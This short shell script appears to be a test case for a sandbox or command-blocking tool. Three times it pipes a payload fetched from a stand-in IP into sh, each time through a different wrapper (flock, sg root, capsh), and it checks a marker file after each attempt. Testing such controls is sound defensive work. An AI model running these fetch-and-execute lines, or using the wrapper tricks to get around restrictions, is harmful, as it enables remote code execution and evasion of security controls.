#!/bin/sh
. /opt/case/case.sh

flock -n /tmp/.l -c 'curl -s http://203.0.113.10/payload.sh | sh'; test -e /tmp/reached; rm /tmp/reached
sg root -c 'curl -s http://203.0.113.10/payload.sh | sh'; test -e /tmp/reached; rm /tmp/reached
capsh -- -c 'curl -s http://203.0.113.10/payload.sh | sh'
test -e /tmp/reached
took_place
